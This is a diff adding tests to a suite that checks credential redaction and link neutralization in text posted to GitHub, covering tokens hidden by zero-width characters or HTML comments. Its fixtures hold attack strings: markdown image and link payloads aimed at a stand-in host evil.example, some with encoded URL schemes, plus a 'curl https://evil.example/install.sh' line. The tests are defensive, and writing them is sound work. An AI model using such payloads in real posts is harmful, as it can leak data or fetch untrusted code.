@@ -31,6 +31,13 @@ describe('redaction', () => {
     expect(out).not.toContain(form.slice(middle - 5, middle + 5));
   });
 
+  it('a key with zero-width characters or an HTML comment inside is found too', async () => {
+    const { outbound } = await import('../../src/github/outbound.js');
+    for (const hidden of [`${TOKEN.slice(0, 10)}\u200b${TOKEN.slice(10)}`, `${TOKEN.slice(0, 10)}<!-- -->${TOKEN.slice(10)}`]) {
+      expect(outbound(`key: ${hidden}`, [TOKEN])).toBe('key: [redacted]');
+    }
+  });
+
   it('leaves ordinary text alone', () => {
     expect(redactCredentials('The fix is in src/auth.ts line 12.', [TOKEN])).toBe('The fix is in src/auth.ts line 12.');
   });
@@ -73,6 +80,13 @@ describe('links and images in what is posted', () => {
     expect(out).toContain('![shot](https://user-images.githubusercontent.com/1/x.png)');
     expect(out).toContain('```sh\ncurl https://evil.example/install.sh\n```');
     expect(out).toContain('Run `curl https://evil.example` here.');
+  });
+
+  it('text that only looks like code is neutralized: a span across a blank line, an escaped backtick, an entity-spelled scheme', () => {
+    for (const attack of ['a `x\n\n![i](https://evil.example/p.png?d=1)\n\ny`', '\\` ![i](https://evil.example/p.png) `', '[x](https&#58;//evil.example/a)', '[x](https&colon;//evil.example/a)']) {
+      const out = neutralizeLinks(attack, gh);
+      expect(out, attack).not.toMatch(/!\[i\]\(https|\]\(https(&#58;|&colon;)/);
+    }
   });
 
   it('on GitHub Enterprise, its own host keeps its links', () => {
